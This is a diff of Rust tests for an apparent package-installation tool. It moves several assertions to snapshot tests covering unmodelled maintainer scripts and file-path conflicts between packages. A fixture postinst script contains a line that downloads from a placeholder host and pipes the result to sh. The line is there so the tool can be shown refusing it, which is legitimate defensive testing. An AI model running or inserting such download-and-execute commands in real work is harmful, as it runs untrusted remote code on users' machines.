@@ -37,28 +37,16 @@ fn a_link_of_another_package_leads_nowhere_outside() {
 #[test]
 fn a_script_that_nobody_models_is_shown_with_the_choices() {
     let script = "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then\n    wget -qO- http://example.org | sh\nfi\n";
-    let online = Archive::new().with("evil", &[("postinst", script)], Tar::default()).online();
-    let error = online.refused(&["evil"], 1);
-    assert!(error.contains("evil") && error.contains("1.0-1") && error.contains("`postinst`"), "{error}");
-    assert!(error.contains("   4 |     wget -qO- http://example.org | sh"), "{error}");
-    for choice in ["leave the package out", "docs/effects.md", "ledger.toml", "package = \"evil\"", "sha256 = [\""] {
-        assert!(error.contains(choice), "{choice} is missing in: {error}");
-    }
-
-    // All of them at once.
+    // All that is not modelled is told at once.
     let online = Archive::new()
         .with("evil", &[("postinst", script), ("preinst", script)], Tar::default())
         .with("wicked", &[("postinst", script), ("triggers", "interest /opt\n")], Tar::default())
         .online();
     let error = online.refused(&["evil", "wicked"], 1);
-    for (package, script) in [("evil", "preinst"), ("evil", "postinst"), ("wicked", "postinst"), ("wicked", "triggers")]
-    {
-        let message = format!("package {package} 1.0-1: nobody models these lines of its `{script}`");
-        assert!(error.contains(&message), "{message} is missing in: {error}");
-    }
+    let place = online.place(&["evil", "wicked"]);
+    insta::assert_snapshot!(place.stable(&error));
 
     // The text that the hint gives is what accepts it, once there is a reason in it.
-    let place = online.place(&["evil", "wicked"]);
     let entry = error.split_once("ledger.toml:\n").unwrap().1;
     for reason in ["…", "", "  "] {
         place.write("ledger.toml", entry.replace('…', reason));
@@ -100,19 +88,10 @@ fn a_script_that_nobody_models_is_shown_with_the_choices() {
 }
 
 #[test]
-fn two_packages_with_one_path_are_refused() {
-    let data = || Tar::default().dir("./").dir("./usr/").file("./usr/parcel", "other");
-    let error = Archive::new().with("rival", &[], data()).online().refused(&["parcel", "rival"], 1);
-    for part in ["`parcel`", "`rival`", "`/usr/parcel`"] {
-        assert!(error.contains(part), "{error}");
-    }
-}
-
-#[test]
-fn a_file_of_one_package_over_a_directory_of_another_is_refused() {
-    let data = Tar::default().dir("./").dir("./usr/").dir("./usr/parcel/");
-    let error = Archive::new().with("rival", &[], data).online().refused(&["parcel", "rival"], 1);
-    for part in ["`parcel`", "`rival`", "`/usr/parcel`", "a directory", "a regular file"] {
-        assert!(error.contains(part), "{error}");
-    }
+fn a_path_of_two_packages_is_refused() {
+    let file = Tar::default().dir("./").dir("./usr/").file("./usr/parcel", "other");
+    let directory = Tar::default().dir("./").dir("./usr/").dir("./usr/parcel/");
+    let errors =
+        [file, directory].map(|data| Archive::new().with("rival", &[], data).online().refused(&["parcel", "rival"], 1));
+    insta::assert_snapshot!(errors.join("\n"));
 }
